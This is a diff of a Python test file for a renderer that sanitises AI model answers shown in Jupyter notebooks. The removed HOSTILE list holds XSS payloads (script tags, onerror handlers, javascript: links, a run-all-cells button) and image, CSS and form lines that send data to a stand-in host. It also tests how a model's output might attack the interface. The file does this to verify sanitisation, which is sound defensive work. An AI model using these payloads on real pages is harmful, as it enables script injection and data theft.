@@ -8,17 +8,10 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from ornb.rendering import (
-    ATTRIBUTES,
-    CLASSES,
-    TAGS,
-    StreamRenderer,
-    facts,
-    pictures_html,
-    render,
-    reply_html,
-)
+from ornb.markdown import ATTRIBUTES, CLASSES, TAGS, StreamRenderer, render, web_link
+from ornb.rendering import facts, pictures_html, reply_html, sources_html, static_html
 from ornb.reply import Reply, Timing, Usage
+from tests import hostile
 
 FRAGMENTS = [
     "# Heading",
@@ -146,12 +139,24 @@ def test_feeding_says_how_long_to_wait() -> None:
         pytest.param("$\\def\\a{b}\\a$", "<code>\\def", id="macros are not run"),
         pytest.param("from $5 to $10", "<p>from $5 to $10</p>", id="money"),
         pytest.param("\\[see below\\]", "<p>[see below]</p>", id="escaped brackets"),
-        pytest.param("[a](https://b.c/d)", '<small class="ornb-host">(b.c)</small>', id="host"),
+        pytest.param(
+            "[a](https://b.c/d)", '<small class="ornb-host"><bdi>(b.c)</bdi></small>', id="host"
+        ),
         pytest.param("<https://b.c/d>", ">https://b.c/d</a></p>", id="autolink has its host"),
         pytest.param("<https://b.c@d.e/>", "(d.e)", id="a user name does not hide the host"),
         pytest.param(
             "<https://\u0430pple.com/>", "(xn--pple-43d.com)", id="a lookalike is spelt out"
         ),
+        pytest.param("[a](http://2130706433/)", "<p>[a](http://2130706433/)</p>", id="odd host"),
+        pytest.param(
+            "[![p](https://b.c/d)](https://e.f)", "“p” not loaded]</span></a>", id="in link"
+        ),
+        pytest.param("![p](data:image/png;base64,AA)", "<p>![p](data:", id="image inside is text"),
+        pytest.param("a \u202eb", "a ⟨U+202E⟩b", id="text is not turned around"),
+        pytest.param("`a\u2066b`", "<code>a⟨U+2066⟩b</code>", id="code shows what turns it"),
+        pytest.param("$a \\above 99em b$", "<mfrac><mi>a</mi>", id="lines in math are bounded"),
+        pytest.param("$x$", "</math></p>", id="plain math needs no source"),
+        pytest.param("$x^2$", '</math><code hidden="">x^2</code>', id="source where no MathML is"),
         pytest.param("[a](/lab/api)", "<p>[a](/lab/api)</p>", id="relative link is text"),
         pytest.param("[a](javascript:x)", "<p>[a](javascript:x)</p>", id="script link is text"),
         pytest.param("![p](https://b.c/d)", "[image “p” not loaded: <a", id="image is text"),
@@ -169,36 +174,7 @@ def test_links_open_elsewhere_and_tell_nothing() -> None:
 
 # ------------------------------------------------------------------ hostile answers
 
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)><style>*{}</style></svg>",
-    "<details open ontoggle=alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    '<button data-commandlinker-command="notebook:run-all-cells">x</button>',
-    "<div style='position:fixed;inset:0'>x</div>",
-    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
-    "$\\text{<mglyph><style></math><img/src/onerror=alert(1)>}$",
-    "$$\\text{</mtext></math><script>alert(1)</script>}$$",
-    "$\\href{javascript:alert(1)}{x}$ $\\style{position:fixed}{x}$ $\\class{jp-x}{x}$",
-    "$\\hspace{-99em}x \\rule{99em}{99em} \\raise{999em}{x} \\colorbox{red}{x}$",
-    "[x](javascript:alert(1)) [x](data:text/html,x) [x](vbscript:x) [x](file:///etc/passwd)",
-    "[x](//host.example/a) <javascript:alert(1)> [x](JaVaScRiPt:alert(1))",
-    "![x](https://host.example/?q=secret) ![x][r]\n\n[r]: https://host.example/r.png",
-    "[![x](https://host.example/a.png)](https://host.example)",
-    '![x"onerror=alert(1) y](https://host.example/"onerror=alert(1)//)',
-    '```html" onmouseover=alert(1) x="\n<script>\n```',
-    "```mermaid\nclick A call alert(1)\n```",
-    "<style>@import 'https://host.example/x.css'</style>",
-    "<a href=https://host.example class=jp-Button id=x>x</a>",
-    "<form action=https://host.example><input name=q></form>",
-    "<video src=https://host.example/v poster=https://host.example/p></video>",
-    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
-    "\\<script>alert(1)</script>",
-    "<!-- --><script>alert(1)</script>",
-    "| <img src=x onerror=alert(1)> |\n|---|\n| $\\text{<script>}$ |",
-    '<https://host.example/"onmouseover=alert(1)>',
-]
+HOSTILE = list(hostile.HOSTILE.values())
 
 
 class Inventory(HTMLParser):
@@ -229,13 +205,13 @@ def assert_harmless(html: str) -> None:
     allowed = {(tag, name) for tag, names in ATTRIBUTES.items() for name in names}
     assert found.attributes <= allowed | {("a", "rel"), ("a", "target")}
     assert all(name in CLASSES[tag] for tag, name in found.classes)
-    assert all(re.match(r"https?://|mailto:", link) for link in found.links)
+    assert all(re.match(r"https?://|mailto:", link) for link in found.links), found.links
 
 
-@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("text", HOSTILE, ids=list(hostile.HOSTILE))
 def test_a_hostile_answer_keeps_nothing_beyond_the_list(text: str) -> None:
     assert_harmless(render(text))
-    for cut in range(0, len(text), 3):
+    for cut in range(0, len(text), 1 + len(text) // 30):
         stream = StreamRenderer()
         for part in (text[:cut], text[cut:]):
             assert_harmless("".join(stream.feed(part)))
@@ -278,7 +254,7 @@ def test_source_that_cannot_be_parsed_is_shown_escaped(monkeypatch: pytest.Monke
     def explode(*_: object) -> None:
         raise RecursionError
 
-    monkeypatch.setattr("ornb.rendering._MARKDOWN.parse", explode)
+    monkeypatch.setattr("ornb.markdown._MARKDOWN.parse", explode)
     stream = StreamRenderer()
     assert "&lt;b&gt;" in stream.feed("<b>")[1]
     assert stream.finish() == render("<b>")
@@ -301,6 +277,35 @@ def test_an_answer_shows_its_source_and_facts_without_a_style_sheet() -> None:
     assert "<em>A</em>" in html
     assert "&lt;i&gt;hm&lt;/i&gt;" in html
     assert "a&lt;b · P · canned answer · 2 → 3 tokens" in html
+
+
+def test_jupyter_looks_for_no_tex_in_what_stays() -> None:
+    """It would make a formula of "from $5 to $10"; MathJax 3 and 2 each know one name."""
+    for html in (static_html("x", css_class="a<b"), reply_html(Reply(text="x"))):
+        assert html.startswith('<div class="ornb-static mathjax_ignore tex2jax_ignore')
+    assert "a&lt;b" in static_html("x", css_class="a<b")
+
+
+def test_a_model_cannot_turn_the_line_of_facts_around() -> None:
+    assert "⟨U+202E⟩" in str(facts(Reply(model="a\u202e0$", provider="b")))
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "javascript:alert(1)",
+        "https://a\\@b.example",
+        "https://a\n.b.example",
+        "//a.example",
+        "",
+        "x",
+    ],
+)
+def test_a_source_that_is_no_web_address_is_text(url: str) -> None:
+    html = web_link(url, "<b>T")
+    assert html == "&lt;b&gt;T"
+    cited = {"type": "url_citation", "url_citation": {"url": url, "title": "<b>T"}}
+    assert "<a" not in sources_html(Reply(annotations=(cited, {}, {"url_citation": 1})))
 
 
 def test_facts_name_the_source_first_when_there_is_no_model() -> None:
